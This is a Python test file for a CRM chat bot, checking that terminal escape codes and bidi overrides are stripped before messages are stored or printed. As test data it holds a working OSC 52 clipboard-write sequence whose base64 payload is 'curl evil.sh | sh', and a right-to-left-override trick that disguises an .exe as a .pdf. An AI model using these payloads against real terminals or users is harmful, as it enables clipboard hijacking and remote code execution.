"""No terminal control or bidi override from a chat message reaches the database or an
admin's terminal (issue 21, item 13: ``crmbot audit`` printed an OSC 52 clipboard write)."""

from __future__ import annotations

import asyncio
from datetime import timedelta

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from bot.cli import main
from bot.clock import FrozenClock
from bot.safe_text import strip_controls
from store.db import Database
from store.models import Activity, Company, User
from tests.clocks import FROZEN_AT

# Writes "curl evil.sh | sh" to the clipboard of the terminal that prints it.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
RLO = "\u202e"  # right-to-left override: "‮fdp.exe" shows as "exe.pdf"
DIRTY = f"Called Acme Ltd about the invoice{OSC52}, sent {RLO}fdp.exe\x1b[2J\x9b31m\x00 ok"
CLEAN = "Called Acme Ltd about the invoice, sent fdp.exe ok"
# PostgreSQL refuses a NUL in text, so an older crmbot could only have stored the rest.
STORED_BEFORE = DIRTY.replace("\x00", "")
NOT_PRINTED = ("\x1b", "\x07", "\x9b", "\x00", RLO, "52;c;", "Y3VybC", "[2J", "31m")


def assert_clean(text: str) -> None:
    for bad in NOT_PRINTED:
        assert bad not in text, repr(bad)


async def test_a_message_with_an_osc52_sequence_is_stored_clean(bot, ws):
    said = await ws.li.send(DIRTY)
    assert "Call · Acme Ltd" in said.text
    assert_clean(said.text)
    summaries = await bot.all(select(Activity.summary).order_by(Activity.id.desc()).limit(1))
    assert summaries == [CLEAN]


@pytest.fixture
def crmbot(database_url, monkeypatch, tmp_path):
    monkeypatch.setenv("CRMBOT_DATABASE_URL", database_url)
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    runner = CliRunner()

    def run(*args: str, input: str | None = None) -> str:
        result = runner.invoke(main, list(args), input=input, catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.output

    return run


async def _store_as_before_the_fix(url: str) -> None:
    """What a message stored by an older crmbot looks like: the control codes kept (in the
    activity and in the audit entries its creation writes)."""
    db = Database(url, FrozenClock(FROZEN_AT))
    try:
        async with db.transaction(platform="telegram") as session:
            li = await session.scalar(select(User).where(User.name == "li"))
            acme = await session.scalar(select(Company).where(Company.name == "Acme Ltd"))
            assert li is not None
            assert acme is not None
            latest = await session.scalar(select(func.max(Activity.occurred_at)))
            newest = (latest or FROZEN_AT) + timedelta(minutes=1)  # the card's last activity
            session.add(
                Activity(
                    company_id=acme.id,
                    owner_id=li.id,
                    kind="call",
                    summary=STORED_BEFORE,
                    occurred_at=newest,
                    created_at=newest,
                )
            )
    finally:
        await db.dispose()


def test_the_command_line_prints_what_was_stored_clean(crmbot, database_url):
    crmbot("demo")
    asyncio.run(_store_as_before_the_fix(database_url))
    audit = crmbot("audit", "--limit", "20")
    assert "summary: ∅ → Called Acme Ltd about the invoice, sent fdp.exe" in audit
    assert_clean(audit)
    chat = crmbot("chat", "--as", "li", input="/find Acme Ltd\n")
    assert "最近：电话" in chat  # the card's last activity (cut short there)
    assert "— Called Acme Ltd about the invoice" in chat
    assert_clean(chat)


def test_a_message_typed_in_the_console_is_stored_and_printed_clean(crmbot, database_url):
    crmbot("demo")
    chat = crmbot("chat", "--as", "li", input=f"{DIRTY}\n")
    assert_clean(chat)
    assert_clean(crmbot("audit", "--limit", "50"))

    async def newest() -> str | None:
        db = Database(database_url, FrozenClock(FROZEN_AT))
        try:
            async with db.transaction() as session:
                return await session.scalar(
                    select(Activity.summary).order_by(Activity.id.desc()).limit(1)
                )
        finally:
            await db.dispose()

    assert asyncio.run(newest()) == CLEAN


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        (f"a{OSC52}b", "ab"),
        ("a\x1b]52;c;aGk=\x1b\\b", "ab"),  # OSC ended by ST
        ("a\x1b]0;pwned", "a"),  # an unterminated OSC runs to the end
        ("a\x1b[1;31mred\x1b[0m", "ared"),
        ("a\x9b2Jb", "ab"),  # 8-bit CSI
        ("a\x1bcb", "ab"),  # ESC c: reset the terminal
        ("line one\r\nline two\rover", "line one\nline two\nover"),
        ("tab\there\nnext", "tab\there\nnext"),
        ("\u2066isolate\u2069 \u202aembed\u202c \u202dlro", "isolate embed lro"),
        ("星辰科技 ¥50万 👍", "星辰科技 ¥50万 👍"),
        ("a\x00\x08\x7f\x85b", "ab"),
    ],
)
def test_what_is_stripped(text, clean):
    assert strip_controls(text) == clean
